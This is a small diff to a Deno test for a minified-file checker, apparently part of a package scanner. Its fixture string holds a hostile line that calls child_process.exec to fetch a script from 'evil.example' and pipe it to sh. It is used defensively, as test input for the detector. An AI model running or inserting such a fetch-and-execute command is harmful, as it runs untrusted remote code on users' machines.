@@ -29,7 +29,7 @@ Deno.test("minified: readable code named .min.js is not minified; real minified 
   const oneLine = `require("child_process").exec("curl https://evil.example | sh"); // ${
     "x".repeat(80)
   }\n`;
-  assert.notEqual(notMinified(oneLine), null);
+  assert.notEqual(notMinified(encode(oneLine)), null);
   assert.match(String(await check("minified", "a.min.css", new Uint8Array([1, 0, 2]))), /binary/);
 });
 
